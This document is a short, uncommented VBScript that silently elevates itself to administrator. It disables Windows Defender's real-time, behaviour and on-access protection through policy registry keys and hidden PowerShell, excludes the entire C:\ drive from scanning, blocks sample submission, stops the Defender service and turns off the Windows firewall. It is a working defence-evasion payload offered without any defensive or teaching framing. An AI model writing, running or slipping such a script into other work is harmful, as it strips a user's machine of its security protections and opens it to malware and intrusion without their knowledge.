If Not WScript.Arguments.Named.Exists("elevated") Then
    CreateObject("Shell.Application").ShellExecute "wscript.exe", """" & WScript.ScriptFullName & """ /elevated", "", "runas", 0
    WScript.Quit
End If
Set sh = CreateObject("WScript.Shell")
base = "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\"
sh.RegWrite base & "DisableAntiSpyware", 1, "REG_DWORD"
sh.RegWrite base & "Real-Time Protection\DisableRealtimeMonitoring", 1, "REG_DWORD"
sh.RegWrite base & "Real-Time Protection\DisableBehaviorMonitoring", 1, "REG_DWORD"
sh.RegWrite base & "Real-Time Protection\DisableOnAccessProtection", 1, "REG_DWORD"
sh.RegWrite base & "Spynet\SubmitSamplesConsent", 2, "REG_DWORD"
sh.Run "powershell -nop -w hidden -c ""Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true; Add-MpPreference -ExclusionPath C:\""", 0, True
sh.Run "sc stop WinDefend", 0, True
sh.Run "netsh advfirewall set allprofiles state off", 0, True
